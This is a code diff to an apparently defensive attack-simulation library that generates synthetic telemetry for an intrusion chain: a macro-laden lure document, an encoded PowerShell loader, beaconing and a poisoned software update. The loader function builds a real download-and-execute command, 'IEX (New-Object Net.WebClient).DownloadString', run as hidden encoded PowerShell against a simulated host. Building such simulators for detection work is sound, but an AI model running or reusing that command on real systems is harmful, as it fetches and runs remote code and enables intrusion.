@@ -10,7 +10,7 @@ from pandora_core.scenario.attacks.chain import Cast, Intruder, Scene
 from pandora_core.scenario.behaviour.office import PROGRAMS
 from pandora_core.scenario.company import Host, Role
 from pandora_core.scenario.deeds.access import enter, shell
-from pandora_core.scenario.deeds.endpoint import EXPLORER, POWERSHELL, install_service, start
+from pandora_core.scenario.deeds.endpoint import EXPLORER, POWERSHELL, install_service, start, usual_pid
 from pandora_core.scenario.deeds.traffic import fetch_http, fetch_tls, look_up, noticed, open_ports, probe
 from pandora_core.scenario.happenings import FileCreated, Happening, ScriptRun, Sudo
 from pandora_core.scenario.names import BOT_LOGINS
@@ -18,7 +18,8 @@ from pandora_core.scenario.signatures import Signature
 
 WEAK_LOGIN = "deploy"
 """The account on the DMZ host whose password can be guessed."""
-_CAREFUL_INTERVALS_S = (45.0, 60.0, 120.0, 300.0, 600.0)
+_AGENT = "C:\\Program Files\\Deploy\\deploy-agent.exe"
+_INTERVALS_S = (45.0, 60.0, 120.0, 300.0, 600.0)
 _BASE32 = "abcdefghijklmnopqrstuvwxyz234567"
 
 
@@ -40,24 +41,28 @@ def open_lure(hand: Intruder, at_us: int) -> Iterator[Scene]:
         mime="application/vnd.ms-word.document.macroEnabled.12",
     )  # fmt: skip
     opened_us = at_us + hand.pause_us(8, 40)
-    saved = FileCreated(at_us + 900_000, me.host, EXPLORER, me.pid(), document)
-    yield at_us, [*got, saved, start(me, opened_us + SECOND_US, PROGRAMS["docx"], f'/n "{document}"')]
+    saved = FileCreated(at_us + 900_000, me.host, EXPLORER, usual_pid(me.host, EXPLORER), document)
+    reader = PROGRAMS["docx"]
+    opened = start(me, opened_us + SECOND_US, reader, f'/n "{document}"', pid=usual_pid(me.host, reader))
+    yield at_us, [*got, saved, opened]
 
 
 def run_loader(hand: Intruder, at_us: int) -> Iterator[Scene]:
     """The document starts PowerShell with an encoded command, which fetches and starts the intruder's program."""
     me, cast = hand.at_victim(), hand.cast
-    source = f"IEX (New-Object Net.WebClient).DownloadString('http://{cast.lure.name}/{hand.dice.hex(6)}')"
+    path = f"/{hand.dice.hex(6)}"
+    source = f"IEX (New-Object Net.WebClient).DownloadString('http://{cast.lure.name}{path}')"
     encoded = base64.b64encode(source.encode("utf-16-le")).decode()
     shell_process = start(me, at_us, POWERSHELL, f"-nop -w hidden -enc {encoded}", parent=PROGRAMS["docx"])
     script = ScriptRun(at_us + 700_000, me.host, me.user, source)
     fetch_us = at_us + 900_000
     got = fetch_http(
-        me, fetch_us, cast.lure.name, cast.lure.ip, f"/{hand.dice.hex(6)}", agent="PowerShell/5.1",
+        me, fetch_us, cast.lure.name, cast.lure.ip, path, agent="PowerShell/5.1",
         received=hand.dice.size(350_000, 0.2), mime="application/octet-stream", image=POWERSHELL,
     )  # fmt: skip
     saved = FileCreated(fetch_us + 900_000, me.host, POWERSHELL, shell_process.pid, implant(cast))
-    ran = start(me, fetch_us + 2 * SECOND_US, implant(cast), parent=POWERSHELL, parent_pid=shell_process.pid)
+    pid = usual_pid(me.host, implant(cast))
+    ran = start(me, fetch_us + 2 * SECOND_US, implant(cast), pid=pid, parent=POWERSHELL, parent_pid=shell_process.pid)
     yield at_us, [shell_process, script, *got, saved, ran]
 
 
@@ -69,7 +74,7 @@ def beacon(hand: Intruder, at_us: int) -> Iterator[Scene]:
 def beacon_from_server(hand: Intruder, at_us: int) -> Iterator[Scene]:
     """The same from the deployment host, where a poisoned update put the program."""
     host = hand.cast.deploy
-    yield from _beacon_from(hand, at_us, host, host.account, "C:\\Program Files\\Deploy\\deploy-agent.exe")
+    yield from _beacon_from(hand, at_us, host, host.account, _AGENT)
 
 
 def beacon_by_dns(hand: Intruder, at_us: int) -> Iterator[Scene]:
@@ -151,7 +156,9 @@ def take_poisoned_update(hand: Intruder, at_us: int) -> Iterator[Scene]:
     yield at_us, fetch_tls(me, at_us, updates, received=38_000_000, application="updates")
     at_us += hand.pause_us(40, 200)
     setup = start(me, at_us, "C:\\Program Files\\Deploy\\setup-5.1.exe", "/quiet", parent=EXPLORER, integrity="High")
-    agent = start(me, at_us + 9 * SECOND_US, "C:\\Program Files\\Deploy\\deploy-agent.exe", parent=setup.image)
+    agent = start(
+        me, at_us + 9 * SECOND_US, _AGENT, pid=usual_pid(host, _AGENT), parent=setup.image, parent_pid=setup.pid
+    )
     yield at_us, [setup, agent]
 
 
@@ -169,7 +176,7 @@ def push_poisoned_agent(hand: Intruder, at_us: int) -> Iterator[Scene]:
 
 def _beacon_from(hand: Intruder, at_us: int, host: Host, user: str, image: str) -> Iterator[Scene]:
     me, command = hand.at(host, user), hand.cast.command
-    every_s = hand.dice.pick(_CAREFUL_INTERVALS_S) * max(1.0, hand.tempo) / max(1.0, hand.noise)
+    every_s = hand.dice.pick(_INTERVALS_S) * max(1.0, hand.tempo) / max(1.0, hand.noise)
     jitter = hand.dice.pick((0.02, 0.05, 0.1, 0.25, 0.4))
     is_first = True
     while at_us < hand.until_us:
